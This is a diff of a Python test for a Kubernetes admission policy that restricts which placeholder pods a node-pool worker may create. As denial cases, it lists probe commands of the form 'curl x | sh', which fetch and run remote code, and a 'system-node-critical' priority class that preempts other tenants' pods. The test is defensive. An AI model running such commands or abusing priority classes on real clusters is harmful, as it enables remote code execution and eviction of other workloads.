@@ -257,9 +257,22 @@ def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_p
             readinessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
         "a startup probe's command": lambda spec, container, meta: container.update(
             startupProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
+        # NOTE: any namespace may name the built-in classes: the scheduler then evicts whatever runs on the node the
+        # placeholder's selector names (the web pods, another tenant's) to make room for it.
+        "a priority class that preempts": lambda spec, container, meta: spec.update(
+            priorityClassName="system-node-critical"),
     }
     for what, change in hostile.items():
         assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
+    # A cluster whose globalDefault PriorityClass the admission names on every pod names it in the ConfigMap.
+    params = rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]
+    params["priorityClassName"] = "batch-default"
+    try:
+        assert _denied(rendered, worker, "CREATE", changed(
+            lambda spec, container, meta: spec.update(priorityClassName="batch-default"))) == []
+        assert _denied(rendered, worker, "CREATE", changed(hostile["a priority class that preempts"]))
+    finally:
+        del params["priorityClassName"]
     web_pod = {"metadata": {"name": "inferplane-web-7d9f", "labels": {"app.kubernetes.io/component": "web"}},
                "spec": {"containers": [{"name": "web", "image": "inferplane/controlplane"}]}}
     assert _denied(rendered, worker, "DELETE", web_pod) == [
